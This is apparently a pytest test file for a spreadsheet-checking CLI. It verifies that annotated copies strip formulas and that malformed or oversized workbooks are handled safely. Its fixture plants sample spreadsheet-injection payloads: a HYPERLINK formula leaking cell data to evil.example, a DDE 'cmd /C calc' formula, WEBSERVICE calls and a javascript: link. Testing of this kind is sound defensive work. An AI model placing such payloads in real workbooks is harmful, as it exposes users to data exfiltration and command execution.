"""Annotated copies carry values only: no formula travels from an input to an output, whatever the
input holds, and an input openpyxl would choke on gets a bounded copy."""

from __future__ import annotations

import io
import re
import time
import zipfile
from xml.sax.saxutils import escape

import openpyxl
import pytest
from builders import build, consistent_values
from click.testing import CliRunner
from hostile import cells_xml, merged_xlsx, minimal_xlsx, replace_in_part, sheet_xml
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from disclosure_cli.cli import cli
from disclosure_cli.render.copy import MAX_COPY_CELLS

SHEET = "xl/worksheets/sheet1.xml"


def annotate(src, out, *extra):
    return CliRunner().invoke(cli, ["check", str(src), "--annotate", str(out), "--lang", "en", *extra])


@pytest.fixture
def with_formulas(tmp_path):
    """A report with formulas in note cells: two with a computed value in the file, one without; a
    formula-defined name, a conditional format, a validation and a javascript: link."""
    path = tmp_path / "2021.xlsx"
    values = consistent_values(51)
    values[("active", "regulations", "issued")] = str(values[("active", "regulations", "issued")])  # W102:
    build(path, values)  # a finding, so a copy is written (none for a clean input)
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[0]
    ws["Q1"] = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    ws["Q2"] = "=cmd|' /C calc'!A0"
    ws["Q3"] = '=WEBSERVICE("http://evil.example/")'
    ws["Q4"] = "see"
    ws["Q4"].hyperlink = "javascript:alert(1)"
    wb.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://evil.example/")')
    wb.defined_names["place"] = DefinedName("place", attr_text=f"'{ws.title}'!$A$1")
    ws.conditional_formatting.add("A1:B2", FormulaRule(formula=['WEBSERVICE("http://x")']))
    dv = DataValidation(type="list", formula1='"a,b"')
    ws.add_data_validation(dv)
    dv.add("R1")
    wb.save(path)
    # Computed values, as Excel would have stored them (openpyxl writes none): Q1 and Q2 have one.
    data = path.read_bytes()
    for ref, value in (("Q1", "点此"), ("Q2", "=cmd|' /C calc'!A0")):
        xml = zipfile.ZipFile(io.BytesIO(data)).read(SHEET).decode()
        cell = re.search(f'<c r="{ref}"[^>]*>(<f>.*?</f>)<v></v></c>', xml)
        assert cell, ref
        data = replace_in_part(data, SHEET, cell.group(0).encode(),
                               f'<c r="{ref}" t="str">{cell.group(1)}<v>{escape(value)}</v></c>'.encode())
    path.write_bytes(data)
    return path, ws.title


def test_no_formula_travels_into_the_copy(tmp_path, with_formulas):
    src, title = with_formulas
    out = tmp_path / "a.xlsx"
    r = annotate(src, out)
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        assert [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
        assert not list(ws.conditional_formatting) and not ws.data_validations.dataValidation
    ws = wb[title]
    assert ws["Q1"].value == "点此"  # the computed value the file holds
    assert ws["Q2"].value == "=cmd|' /C calc'!A0" and ws["Q2"].data_type == "s"  # text, never run
    assert ws["Q3"].value is None and "formula" in ws["Q3"].comment.text  # no value: empty, and said so
    assert ws["Q4"].value == "see" and ws["Q4"].hyperlink is None
    assert "leak" not in wb.defined_names and "place" in wb.defined_names


def test_the_grid_copy_of_an_xls_has_no_formulas_either(tmp_path):
    from hostile import xls

    src = tmp_path / "2021.xls"
    src.write_bytes(xls({(0, 0): "=HYPERLINK(\"x\")", (0, 1): 1}))
    out = tmp_path / "a.xlsx"
    assert annotate(src, out).exit_code in (0, 1)
    ws = openpyxl.load_workbook(out).worksheets[0]
    assert ws["A1"].value == '=HYPERLINK("x")' and ws["A1"].data_type == "s"


def test_a_huge_merged_range_is_refused_in_bounded_time(tmp_path):
    src = tmp_path / "2021.xlsx"
    src.write_bytes(merged_xlsx("Z100:XFD1048576"))
    out = tmp_path / "a.xlsx"
    t0 = time.perf_counter()
    r = annotate(src, out)
    assert time.perf_counter() - t0 < 10 and r.exit_code == 1
    assert "merged cells cover more than" in r.output
    assert openpyxl.load_workbook(out).sheetnames == ["Findings"]


def test_numbers_and_columns_no_sheet_can_hold(tmp_path):
    """A 400-digit number and a cell past XFD: openpyxl raised writing the copy."""
    xml = sheet_xml(b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c><c r="B1"><v>'
                    + b"1" * 400 + b'</v></c><c r="XFE1"><v>2</v></c></row></sheetData>')
    src = tmp_path / "2021.xlsx"
    src.write_bytes(minimal_xlsx(xml))
    out = tmp_path / "a.xlsx"
    r = annotate(src, out)
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert r.exit_code == 1 and out.exists()
    wb = openpyxl.load_workbook(out)
    assert wb["S"]["B1"].data_type == "s" and wb["S"]["B1"].value.startswith("1111")
    notes = [c.value for row in wb["Findings"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("beyond XFD1048576" in n for n in notes)


def test_an_input_too_large_to_copy_gets_the_list_only(tmp_path):
    rows = {r: {c: r for c in ("A", "B", "C", "D", "E", "F", "G", "H", "I", "J")} for r in range(1, 10_002)}
    src = tmp_path / "2021.xlsx"
    src.write_bytes(minimal_xlsx(sheet_xml(cells_xml(rows))))
    assert sum(len(v) for v in rows.values()) > MAX_COPY_CELLS
    out = tmp_path / "a.xlsx"
    t0 = time.perf_counter()
    r = annotate(src, out)
    assert r.exit_code == 1 and time.perf_counter() - t0 < 30
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Findings"]
    notes = [c.value for row in wb["Findings"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(f"{MAX_COPY_CELLS:,}" in n for n in notes)


def test_a_sheet_name_xml_cannot_hold(tmp_path):
    """Found by fuzzing: an .xls sheet named with a control character; openpyxl refused to save the copy."""
    from hostile import xls

    src = tmp_path / "2021.xls"
    src.write_bytes(xls({(0, 0): "单位名称", (0, 1): "某局"}, sheet="表\x01一"))
    out = tmp_path / "a.xlsx"
    r = annotate(src, out)
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert openpyxl.load_workbook(out).sheetnames[0] == "表\ufffd一"


def test_merged_cells_a_copy_cannot_hold_but_a_check_reads(tmp_path):
    """200,000 merged cells are under the reading limit (1,000,000), over the copy's (100,000)."""
    src = tmp_path / "2021.xlsx"
    src.write_bytes(merged_xlsx("A2:B100001"))
    r = CliRunner().invoke(cli, ["check", str(src), "--format", "json"])
    assert '"E003"' not in r.output
    out = tmp_path / "a.xlsx"
    t0 = time.perf_counter()
    annotate(src, out)
    assert time.perf_counter() - t0 < 10
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Findings"]
    notes = [c.value for row in wb["Findings"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any("merged" in n and f"{MAX_COPY_CELLS:,}" in n for n in notes)


def test_a_part_no_reader_opens_may_be_broken(tmp_path):
    """Found by fuzzing: garbage deflate data in docProps/app.xml; calamine never opens it, the copy's
    own look at the parts raised zlib.error."""
    from hostile import broken_unread_part

    src = tmp_path / "2021.xlsx"
    src.write_bytes(broken_unread_part())
    out = tmp_path / "a.xlsx"
    r = annotate(src, out)
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert openpyxl.load_workbook(out).worksheets[0]["B1"].value == "某局"


def test_a_merged_range_written_end_first(tmp_path):
    """Found by fuzzing: <mergeCell ref="Z9:D5"/>. openpyxl refused it in the copy; summed as it came,
    its negative area could have hidden a huge range from the budget."""
    src = tmp_path / "2021.xlsx"
    src.write_bytes(merged_xlsx("Z9:D5"))
    out = tmp_path / "a.xlsx"
    r = annotate(src, out)
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    hidden = tmp_path / "h.xlsx"
    hidden.write_bytes(minimal_xlsx(sheet_xml(cells_xml({1: {"A": "x"}}) + b'<mergeCells count="2">'
                                              b'<mergeCell ref="A2:XFD1048576"/><mergeCell ref="XFD3:A1048576"/>'
                                              b"</mergeCells>")))
    r = CliRunner().invoke(cli, ["check", str(hidden), "--lang", "en"])
    assert "merged cells cover more than" in r.output
